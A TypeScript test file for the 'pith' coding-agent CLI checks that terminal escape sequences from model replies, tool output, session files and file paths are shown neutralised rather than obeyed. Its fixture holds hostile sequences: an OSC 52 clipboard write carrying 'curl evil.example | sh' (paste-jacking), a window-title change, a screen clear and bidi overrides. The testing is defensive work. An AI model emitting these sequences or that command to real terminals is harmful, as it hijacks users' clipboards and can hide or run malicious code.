// Escape sequences from the model, its tools or a session file never reach a terminal as
// commands (issue 32, row 5). A model's reply, a bash command it runs and that command's output
// hold OSC 52 (a clipboard write: paste-jacking), OSC 0 (the window title), CSI 2J (a cleared
// screen that hides what ran), the 8-bit CSI (U+009B), a bidi override and a lone carriage
// return; `pith -p`, then `pith tree`, `pith context` and `pith list` on that session, the human
// log lines and an error naming a hostile path, all through the real bin/pith: their bytes hold
// no ESC, no BEL, no C0 but \n and \t, no C1 and no bidi control, and the neutralised forms are
// there to see. `--mode json` and `--json` stay JSON whose parsed strings hold the original
// characters exactly.
import assert from "node:assert/strict";
import { spawn } from "node:child_process";
import { copyFileSync, readdirSync, readFileSync, appendFileSync } from "node:fs";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { BIN, checkDist, Cleanup, daemonEnv, FLOW_SETTINGS, SMALL_MODEL, writeSettings } from "../support/daemon-client.js";
import { startFakeAnthropic, textReply, toolUseReply, type FakeAnthropic } from "../support/fake-anthropic.js";
import { repoRoot, tempDir } from "../support/tmp.js";

const ESC = "\x1b";
const BEL = "\x07";
/** Everything a terminal would act on, as a hostile reply or command output carries it. */
const HOSTILE =
  `${ESC}]52;c;${Buffer.from("curl evil.example | sh\n").toString("base64")}${BEL}` + // clipboard
  `${ESC}]0;owned${BEL}` + // window title
  `${ESC}[2J` + // clear the screen
  "\u009b31m" + // 8-bit CSI
  "\u009d0;t\u009c" + // 8-bit OSC ... ST
  "\u202eevil\u202c" + // right-to-left override
  "over\rwritten"; // a lone CR
/** What each must look like once neutralised. */
const VISIBLE = ["\\x1b]52;c;", "\\x07", "\\x1b]0;owned", "\\x1b[2J", "\\x9b31m", "\\x9d0;t\\x9c", "\\u202eevil\\u202c", "over\\x0dwritten"];

// one session for the whole file: -p makes it, the later tests read it
const cleanup = new Cleanup();
const home = tempDir(cleanup);
const cwd = tempDir(cleanup);
let fake: FakeAnthropic;
before(async () => {
  fake = await startFakeAnthropic();
});
after(async () => {
  await fake.close();
  await cleanup.run();
});

interface Bytes {
  code: number | null;
  stdout: Buffer;
  stderr: Buffer;
}

/** bin/pith to its end with stdout and stderr kept as bytes (a string would hide a stray 0x9B byte). */
function pithBytes(args: string[], env: Record<string, string> = {}): Promise<Bytes> {
  const child = spawn(BIN, args, { cwd, env: daemonEnv({ home, fake, env }), stdio: ["ignore", "pipe", "pipe"], timeout: 30_000, killSignal: "SIGKILL" });
  const out: Buffer[] = [];
  const err: Buffer[] = [];
  child.stdout.on("data", (d: Buffer) => out.push(d));
  child.stderr.on("data", (d: Buffer) => err.push(d));
  return new Promise((resolve, reject) => {
    child.on("error", reject);
    child.on("close", (code) => resolve({ code, stdout: Buffer.concat(out), stderr: Buffer.concat(err) }));
  });
}

const show = (r: Bytes) => `exit ${r.code}\n--- stdout:\n${JSON.stringify(r.stdout.toString("utf8").slice(-2000))}\n--- stderr:\n${JSON.stringify(r.stderr.toString("utf8").slice(-2000))}`;

/** The bytes as text a terminal would show and never obey: valid UTF-8, nothing it acts on. */
function inert(bytes: Buffer, where: string): string {
  // a stray byte 0x80-0xff that is no part of a UTF-8 character is what an 8-bit terminal takes as C1
  const text = new TextDecoder("utf-8", { fatal: true }).decode(bytes);
  const bad = /[\x00-\x08\x0b-\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]|\r(?!\n)/.exec(text);
  assert.equal(bad, null, `${where}: ${bad ? `U+${bad[0].charCodeAt(0).toString(16).padStart(4, "0")} at ${bad.index}: ${JSON.stringify(text.slice(Math.max(0, bad.index - 40), bad.index + 40))}` : ""}`);
  return text;
}

function assertVisible(text: string, where: string, forms = VISIBLE): void {
  for (const form of forms) assert.ok(text.includes(form), `${where} shows ${JSON.stringify(form)}: ${JSON.stringify(text.slice(0, 3000))}`);
}

function sessionFile(): string {
  const dir = join(home, "sessions");
  const files = readdirSync(dir, { recursive: true, encoding: "utf8" }).filter((f) => f.endsWith(".jsonl"));
  assert.equal(files.length, 1, files.join(", "));
  return join(dir, files[0]!);
}

// the command prints the hostile text (and a raw 0x9B byte, which is not UTF-8) and fails, so -p shows its output
const COMMAND = `printf '%s' '${HOSTILE}'; printf '\\233'; exit 3`;

test("pith -p: the reply, the command and its output reach stdout and stderr neutralised, and visibly so", async (t) => {
  checkDist(t);
  writeSettings(home, { ...FLOW_SETTINGS, model: SMALL_MODEL.id });
  fake.enqueue(toolUseReply("bash", { command: COMMAND }), textReply(`done ${HOSTILE}`));
  const r = await pithBytes(["-p", "--sandbox", "off", `fix ${HOSTILE}`]);
  assert.equal(r.code, 0, show(r));
  assert.equal(fake.remaining(), 0);
  const stdout = inert(r.stdout, "-p stdout");
  const stderr = inert(r.stderr, "-p stderr");
  assertVisible(stdout, "-p's reply");
  assert.match(stdout, /^done \\x1b\]52;c;/);
  assertVisible(stderr.split("\n").find((l) => l.startsWith("✗ bash"))!, "-p's line of the failed command", VISIBLE.slice(0, 3));
  assert.match(stderr, /failed: .*\\x1b\]52;c;/, "the command's output, shown");
  // what was stored is what the model and the tool said: only the terminal's copy changed
  const stored = readFileSync(sessionFile(), "utf8");
  assert.ok(stored.includes(JSON.stringify(`done ${HOSTILE}`).slice(1, -1)), "the reply is stored as it came");
});

test("pith tree, context and list of that session: nothing a terminal obeys, the escapes in view", async (t) => {
  checkDist(t);
  const file = sessionFile();
  for (const args of [["tree", file], ["context", file], ["list"]]) {
    const r = await pithBytes(args);
    assert.equal(r.code, 0, show(r));
    const stdout = inert(r.stdout, `${args[0]} stdout`);
    inert(r.stderr, `${args[0]} stderr`);
    // tree and list show the first message's start, context each message's
    assertVisible(stdout, args[0]!, VISIBLE.slice(0, 3));
  }
});

test("--mode json, tree --json, context --json and list --json: exact JSON, the original characters in the parsed strings", async (t) => {
  checkDist(t);
  fake.enqueue(toolUseReply("bash", { command: COMMAND }), textReply(`done ${HOSTILE}`));
  const r = await pithBytes(["--mode", "json", "--sandbox", "off", "--continue", `again ${HOSTILE}`]);
  assert.equal(r.code, 0, show(r));
  const lines = inert(r.stdout, "--mode json stdout").trimEnd().split("\n").map((l) => JSON.parse(l) as Record<string, unknown>);
  const result = lines.at(-1)!;
  assert.equal(result.type, "result");
  assert.equal(result.text, `done ${HOSTILE}`, "the reply's characters, exactly");
  const start = lines.find((l) => l.type === "tool_execution_start") as { args: { command: string } };
  assert.equal(start.args.command, COMMAND, "the command's characters, exactly");
  const file = sessionFile();
  const tree = await pithBytes(["tree", "--json", file]);
  const parsedTree = JSON.parse(inert(tree.stdout, "tree --json")) as { entries: { preview: string }[] };
  assert.ok(parsedTree.entries.some((e) => e.preview === `done ${HOSTILE}`.replace(/\s+/g, " ")), "a preview holds the original characters");
  const ctx = await pithBytes(["context", "--json", file]);
  assert.ok(JSON.stringify(JSON.parse(inert(ctx.stdout, "context --json"))).includes(JSON.stringify(HOSTILE).slice(1, -1)));
  const list = await pithBytes(["list", "--json"]);
  const { sessions } = JSON.parse(inert(list.stdout, "list --json")) as { sessions: { firstMessage: string }[] };
  assert.equal(sessions[0]!.firstMessage, `fix ${HOSTILE}`.replace(/\s+/g, " "));
});

test("log lines (human, as on a terminal, and JSON) and errors: a hostile id in a session file or a hostile path is shown, not obeyed", async (t) => {
  checkDist(t);
  // a colleague's session file whose entry names a parent that is an escape sequence
  const copy = join(tempDir(t), "shared.jsonl");
  copyFileSync(sessionFile(), copy);
  appendFileSync(copy, JSON.stringify({ type: "message", id: "0badc0de", parentId: HOSTILE, timestamp: new Date().toISOString(), message: { role: "user", content: "hi", timestamp: 1 } }) + "\n");
  const human = await pithBytes(["tree", copy], { PITH_LOG_FORMAT: "pretty" });
  assert.equal(human.code, 0, show(human));
  const humanLog = inert(human.stderr, "human log lines");
  assert.match(humanLog, /WARN/, "the warning about the entry is there");
  assertVisible(humanLog, "the human log line", ["\\x1b]52;c;", "\\x1b]0;owned", "\\x9b31m", "\\u202eevil"]);
  const json = await pithBytes(["tree", copy], { PITH_LOG_FORMAT: "json" });
  const records = inert(json.stderr, "JSON log lines").trimEnd().split("\n").map((l) => JSON.parse(l) as { msg: string });
  assert.ok(records.some((rec) => rec.msg.includes(HOSTILE)), "the JSON log record holds the id exactly");
  const missing = await pithBytes(["tree", join(cwd, `${ESC}]0;owned${BEL}\u202e.jsonl`)]);
  assert.equal(missing.code, 1, show(missing));
  assertVisible(inert(missing.stderr, "the error naming the path"), "the error", ["\\x1b]0;owned\\x07\\u202e.jsonl"]);
});

test("the CLI writes for a person only through terminal-out.ts (the protocol's stdout aside)", () => {
  const dir = join(repoRoot, "src", "cli");
  const raw: string[] = [];
  for (const name of readdirSync(dir)) {
    if (!name.endsWith(".ts") || name === "terminal-out.ts") continue;
    readFileSync(join(dir, name), "utf8")
      .split("\n")
      .forEach((line, i) => {
        // acp-mode.ts answers an oversize line with a JSON-RPC error: protocol, not text for a person
        if (/process\.(stdout|stderr)\.write\(|console\.(log|info)\(/.test(line) && !(name === "acp-mode.ts" && line.includes("boundedAcpInput"))) raw.push(`src/cli/${name}:${i + 1}: ${line.trim()}`);
      });
  }
  assert.deepEqual(raw, []);
});
